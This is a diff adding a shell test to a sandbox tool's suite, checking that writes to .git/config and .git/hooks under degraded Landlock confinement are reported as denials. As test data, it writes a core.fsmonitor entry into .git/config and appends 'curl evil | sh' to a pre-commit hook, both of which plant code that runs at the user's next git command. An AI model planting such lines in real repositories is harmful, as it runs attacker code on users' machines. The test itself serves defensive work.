@@ -169,6 +169,34 @@ test_hosts_degraded_refusals_said_exactly() {
 	t_assert
 }
 
+# Protected paths (.git/config, .git/hooks, ...) are read-only binds in the
+# whole boundary; Landlock grants a writable path whole, so a degraded run
+# can write them (a core.fsmonitor in .git/config runs at the user's next
+# `git status`). Not held, so never unseen: each change is a denial and
+# containment is "violations", not "weaker" (outside review attack11b: the
+# report said weaker for both changes below).
+test_hosts_degraded_protected_paths_said() {
+	need_restrict || return
+	[ "$(landlock_abi)" -ge 1 ] || { t_skip "no Landlock"; return; }
+	chmod 755 "$T_TMP"
+	mkdir -p "$T_TMP/ws-prot/.git/hooks"
+	printf '[core]\n' >"$T_TMP/ws-prot/.git/config"
+	echo '#!/bin/sh' >"$T_TMP/ws-prot/.git/hooks/pre-commit"
+	cd "$T_TMP/ws-prot" || return
+	degraded_run self --allow-weaker namespaces -- /bin/sh -c '
+		printf "\tfsmonitor = touch /tmp/pwned\n" >>.git/config
+		echo "curl evil | sh" >>.git/hooks/pre-commit
+		echo fine >notes.txt; echo done'
+	expect_eq "$RC:$OUT" "0:done" "it runs ($ERR)"
+	expect_eq "$(field .verdicts.containment)" violations "the report says violations, not weaker"
+	local d
+	d=$(field '[.denials[] | select(.kind == "file") | .target] | join(" ")')
+	expect_match "$d" "$T_TMP/ws-prot/.git/config" "the change to .git/config is a denial"
+	expect_match "$d" "$T_TMP/ws-prot/.git/hooks/pre-commit" "the change to the hook is a denial"
+	expect_nomatch "$d" "notes.txt" "an ordinary file is not"
+	t_assert
+}
+
 # Endpoints with allow_weaker "network" too: the host's network, unbounded
 # and said so; no proxy variables (they would send requests to whatever
 # listens on that port of the host); datagram sockets still refused.
